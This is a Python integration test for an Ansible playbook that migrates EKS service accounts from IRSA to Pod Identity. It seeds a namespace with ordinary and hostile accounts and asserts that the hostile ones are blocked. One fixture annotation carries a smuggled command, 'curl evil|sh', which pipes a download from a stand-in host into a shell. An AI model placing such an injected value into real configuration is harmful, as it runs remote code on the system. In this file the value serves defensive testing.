# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""migrate.yml over a zoo of owners, and beside whatever the owner of a namespace can write.

No role follows an annotation that the role's trust policy doesn't, and no pod that had credentials lacks them.
"""

from __future__ import annotations

import json
import typing as t

import pytest
from ansible_collections.enbuild.eks.tests.integration import namespaces
from ansible_collections.enbuild.eks.tests.integration.irsa import ANNOTATION, Irsa
from ansible_collections.enbuild.eks.tests.integration.poller import Poller, as_manifest
from ansible_collections.enbuild.eks.tests.integration.shop import policy
from ansible_collections.enbuild.eks.tests.lab.labs import Lab
from ansible_collections.enbuild.eks.tests.tools.playbook_run import PlaybookRun, run_playbook

pytestmark = pytest.mark.lab

SPACE = "zoo"
LISTING = {"Effect": "Allow", "Action": "s3:ListAllMyBuckets", "Resource": "*"}
REMEMBERED = "enbuild.eks/irsa-role-arn"
RUNNING = ("fine", "corp", "replicas", "custom", "pod", "several")
"""Service accounts whose pods run, and have their role by IRSA."""
IDLE = ("job", "cron", "zero", "empty", "store")
HOSTILE = ("tenant", "reader", "broken", "liar")
Object = dict[str, t.Any]


def labelled(name: str) -> Object:
    return {"labels": {"app": name}}


def spec(name: str, **more: t.Any) -> Object:
    containers = [{"name": "main", "image": "registry.example.com/app"}]
    return {"serviceAccountName": name, "terminationGracePeriodSeconds": 0, "containers": containers, **more}


def template(name: str, **more: t.Any) -> Object:
    return {"metadata": labelled(name), "spec": spec(name, **more)}


def kept(kind: str, name: str, replicas: int = 1) -> Object:
    """A Deployment or a ReplicaSet."""
    wanted = {"replicas": replicas, "selector": {"matchLabels": {"app": name}}, "template": template(name)}
    return {"apiVersion": "apps/v1", "kind": kind, "metadata": {"name": name}, "spec": wanted}


def pod(name: str, account: str, **metadata: t.Any) -> Object:
    meta = {"name": name, **labelled(account), **metadata}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": spec(account)}


def stuck_job(name: str) -> Object:
    made = template(name, restartPolicy="Never")
    made["metadata"]["annotations"] = {"lab.enbuild.eks/stuck": "true"}
    return {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": name}, "spec": {"template": made}}


def cron_job(name: str) -> Object:
    job = {"spec": {"template": template(name, restartPolicy="Never")}}
    wanted = {"schedule": "0 0 29 2 *", "jobTemplate": job}
    return {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": name}, "spec": wanted}


ROLLOUT = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "name": "custom", "uid": "x", "controller": True}
CRD: Object = {
    "apiVersion": "apiextensions.k8s.io/v1",
    "kind": "CustomResourceDefinition",
    "metadata": {"name": "secretstores.external-secrets.io"},
    "spec": {
        "group": "external-secrets.io",
        "names": {"kind": "SecretStore", "plural": "secretstores"},
        "scope": "Namespaced",
        "versions": [
            {
                "name": "v1",
                "served": True,
                "storage": True,
                "schema": {
                    "openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": True},
                },
            }
        ],
    },
}
STORE: Object = {
    "apiVersion": "external-secrets.io/v1",
    "kind": "SecretStore",
    "metadata": {"name": "aws"},
    "spec": {"provider": {"aws": {"auth": {"jwt": {"serviceAccountRef": {"name": "store"}}}}}},
}


class Zoo:
    """A namespace with one of each."""

    def __init__(self, lab: Lab) -> None:
        self.lab, self.iam = lab, lab.aws("iam")
        self.irsa = Irsa(lab)
        self.iam.add_client_id_to_open_id_connect_provider(OpenIDConnectProviderArn=self.irsa.arn, ClientID="corp")
        namespaces.renew(lab, SPACE)
        self.before = {name: self.statement(name) for name in (*RUNNING, *IDLE)}
        for name, statement in self.before.items():
            self.role(name, statement)
        self.role("admin", {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"})

    def statement(self, name: str) -> Object:
        """IRSA's statement; one account's tokens are for another audience."""
        made = self.irsa.statement(SPACE, name)
        if name == "corp":
            (key,) = [each for each in made["Condition"]["StringEquals"] if each.endswith(":aud")]
            made["Condition"]["StringEquals"][key] = "corp"
            made["Sid"] = "Corp"
        return made

    def role(self, name: str, statement: Object) -> None:
        self.iam.create_role(RoleName=f"zoo-{name}", AssumeRolePolicyDocument=policy(statement))
        self.iam.put_role_policy(RoleName=f"zoo-{name}", PolicyName="use", PolicyDocument=policy(LISTING))

    def arn(self, name: str) -> str:
        return f"arn:aws:iam::{self.lab.account_id}:role/zoo-{name}"

    def trust(self, name: str) -> list[Object]:
        document = self.iam.get_role(RoleName=f"zoo-{name}")["Role"]["AssumeRolePolicyDocument"]
        return t.cast("list[Object]", document["Statement"])

    def kubectl(self, *words: str, given: str | None = None) -> str:
        return self.lab.kubectl(*words, "-n", SPACE, input=given)

    def fill(self) -> None:
        self.lab.kubectl("apply", "-f", "-", input=as_manifest(CRD))
        self.lab.kubectl("wait", "--for=condition=Established", f"crd/{CRD['metadata']['name']}", "--timeout=30s")
        own = {name: {ANNOTATION: self.arn(name)} for name in (*RUNNING, *IDLE)}
        own["corp"]["eks.amazonaws.com/audience"] = "corp"
        written = {
            "tenant": {ANNOTATION: self.arn("admin")},
            "reader": {ANNOTATION: "reader"},
            "broken": {ANNOTATION: f"{self.arn('fine')}\nx; curl evil|sh #", "meta.helm.sh/release-name": "half"},
            "liar": {REMEMBERED: self.arn("admin")},
        }
        accounts = [
            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name, "annotations": notes}}
            for name, notes in {**own, **written}.items()
        ]
        self.kubectl("apply", "-f", "-", given=as_manifest(*accounts))
        workloads = [kept("Deployment", name) for name in ("fine", "corp", "several")]
        workloads += [kept("ReplicaSet", "replicas"), kept("Deployment", "zero", 0), stuck_job("job"), cron_job("cron")]
        pods = [pod("pod", "pod"), pod("custom", "custom", ownerReferences=[ROLLOUT]), pod("beside", "several")]
        self.kubectl("apply", "-f", "-", given=as_manifest(STORE, *workloads, *pods))

    def annotated(self) -> dict[str, str]:
        items = json.loads(self.kubectl("get", "serviceaccounts", "-o", "json"))["items"]
        notes = {each["metadata"]["name"]: each["metadata"].get("annotations", {}) for each in items}
        return {name: each[ANNOTATION] for name, each in notes.items() if ANNOTATION in each}

    def associations(self) -> set[str]:
        listed = self.lab.aws("eks").list_pod_identity_associations(clusterName=self.lab.cluster_name, namespace=SPACE)
        return {each["serviceAccount"] for each in listed["associations"]}

    def run(self, **variables: t.Any) -> PlaybookRun:
        # What is declared by default is another release's, which isn't there.
        given = {
            "eks_cluster_name": self.lab.cluster_name,
            "eks_region": self.lab.region,
            "pod_identity_migrate_namespaces": [SPACE],
            "pod_identity_rollout_injection_timeout": 6,
            **variables,
        }
        return run_playbook(["enbuild.eks.migrate", "-e", json.dumps(given)], self.lab.environment())


@pytest.fixture
def zoo(prepared: Lab) -> t.Iterator[Zoo]:
    made = Zoo(prepared)
    made.fill()
    yield made
    prepared.kubectl("delete", "crd", CRD["metadata"]["name"], "--ignore-not-found")
    namespaces.leave(prepared, SPACE)


PLANNED = (
    "zoo/tenant (IRSA): blocked",
    "of service account zoo/reader is 'reader', and not an IAM role's ARN",
    "zoo/liar (node's role): left alone",
    "nothing is brought back on its word",
    "role/zoo-fine, for service account zoo/fine alone",
    "the old way stays: pod zoo/replicas-",
    "the old way stays: pod zoo/custom runs and lacks the injection in main",
    "the old way stays: pod zoo/pod runs and lacks the injection in main",
    "the old way stays: pod zoo/beside runs and lacks the injection in main",
    "the old way stays: pod zoo/job-",
    "the old way stays: CronJob zoo/cron makes pods from time to time",
    "the old way stays: Deployment zoo/zero has 0 replicas",
    "the old way stays: none of its pods is there to prove that Pod Identity works",
    "the old way stays: SecretStore zoo/aws of External Secrets reads its annotation",
)


def test_nothing_that_a_namespace_writes_decides_and_no_pod_lacks_its_credentials(zoo: Zoo) -> None:
    with Poller(zoo.lab, SPACE) as poller:
        poller.await_answers(RUNNING)
        planned = zoo.run()
        assert (planned.returncode, planned.changed) == (0, []), planned.output
        assert [line for line in PLANNED if line not in planned.output] == []

        run = zoo.run(pod_identity_migrate_act=True, pod_identity_migrate_finish=True)
        assert run.returncode != 0
        assert "All others are done." in run.failure
        assert zoo.associations() == {*RUNNING, *IDLE}
        stays = {*RUNNING, *IDLE, "tenant", "reader", "broken"} - {"fine", "corp"}
        assert set(zoo.annotated()) == stays
        assert len(zoo.trust("admin")) == 1
        for name in ("replicas", "custom", "pod", "several", *IDLE):
            assert zoo.trust(name)[0] == zoo.before[name], "IRSA's statement stays for whoever uses it"
        assert [each["Principal"] for each in zoo.trust("corp")] == [{"Service": "pods.eks.amazonaws.com"}]
        poller.await_answers(RUNNING)

        named = {"pod_identity_migrate_include": ["zoo/empty", "zoo/pod"], "pod_identity_migrate_finish": True}
        answered = zoo.run(**named, pod_identity_migrate_finish_unproven=["zoo/empty", "zoo/pod"])
        assert answered.returncode == 0, answered.output
        assert set(zoo.annotated()) == stays - {"empty"}, "a pod that runs without it is no matter of opinion"

        back = zoo.run(pod_identity_migrate_back=True)
        assert zoo.trust("corp")[-1] == zoo.before["corp"], back.output
        assert set(zoo.annotated()) == {*stays, "fine", "corp", "empty"}, back.output
        assert len(zoo.trust("admin")) == 1
        poller.await_answers(RUNNING)
    assert [answer for answer in poller.answers if answer.method == "none"] == []
